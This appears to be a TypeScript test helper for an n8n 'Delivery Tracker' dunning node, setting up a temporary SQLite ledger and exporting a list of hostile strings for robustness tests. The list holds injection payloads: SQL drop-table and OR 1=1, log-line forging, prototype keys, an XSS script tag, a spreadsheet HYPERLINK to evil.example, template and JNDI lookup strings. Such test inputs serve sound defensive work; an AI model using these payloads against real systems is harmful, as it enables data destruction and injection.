import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type { INode, INodeExecutionData, INodeParameters } from 'n8n-workflow';

import { DeliveryTracker } from '../../nodes/DeliveryTracker/DeliveryTracker.node';
import { openSqliteLedger } from '../../stores/sqlite/ledger';
import { runNode } from '../harness/engine';

const RESOURCE: Record<string, string> = {
  exportTimeline: 'customer',
  forget: 'customer',
  getTimeline: 'customer',
  optIn: 'customer',
  optOut: 'customer',
  readBounce: 'event',
  recordEvent: 'event',
  recordPayment: 'event',
  recordReply: 'event',
  recordPromise: 'hold',
  releaseHold: 'hold',
  setHold: 'hold',
};

/** The operation with the resource it belongs to. */
export const trackerNode = (operation: string) => ({ resource: RESOURCE[operation] ?? 'contact', operation });

/** A Delivery Tracker on a ledger of its own, in n8n's engine. */
export function tracker() {
  const folder = mkdtempSync(join(tmpdir(), 'dunning-'));
  const ledgerFile = join(folder, 'ledger.sqlite');
  return {
    ledgerFile,
    remove: () => rmSync(folder, { recursive: true, force: true }),
    open: () => openSqliteLedger(ledgerFile),
    run: (
      operation: string,
      parameters: INodeParameters = {},
      items: INodeExecutionData[] = [{ json: {} }],
      node: Partial<INode> = {},
    ) => {
      const { options, ...rest } = parameters;
      return runNode(
        new DeliveryTracker(),
        { ...trackerNode(operation), ...rest, options: { ledgerFile, ...(options as INodeParameters) } },
        { items, node, timezone: 'America/Mexico_City' },
      );
    },
  };
}

export const CONTINUE = { onError: 'continueRegularOutput' as const };

/** Texts that break what is put together from strings: SQL, log lines, HTML, formulas, prototypes, size. */
export const HOSTILE = [
  "'; DROP TABLE contacts; --",
  '" OR 1=1 --',
  'x\r\nINFO forged log line',
  'NUL\0inside',
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '{{ $json.secret }}',
  '\u202Eright to left',
  '\ud800',
  '%s%n${jndi:ldap://x}',
];
